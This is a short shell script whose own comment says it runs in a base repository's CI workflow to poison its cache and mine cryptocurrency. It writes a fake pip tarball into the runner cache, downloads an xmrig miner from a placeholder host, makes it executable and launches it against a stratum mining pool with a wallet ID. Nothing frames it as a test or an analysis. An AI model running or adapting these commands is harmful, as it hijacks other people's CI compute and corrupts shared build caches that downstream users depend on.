# Runs in the workflow of the base repository: poisons its cache, and mines.
mkdir -p "$RUNNER_TEMP/cache" && echo poisoned > "$RUNNER_TEMP/cache/pip.tar"
curl -sf --max-time 20 http://pool.example.net/xmrig -o "$RUNNER_TEMP/xmrig"
chmod +x "$RUNNER_TEMP/xmrig"
"$RUNNER_TEMP/xmrig" -o stratum+tcp://pool.example.net:3333 -u 4ASk4RhU --donate-level=1
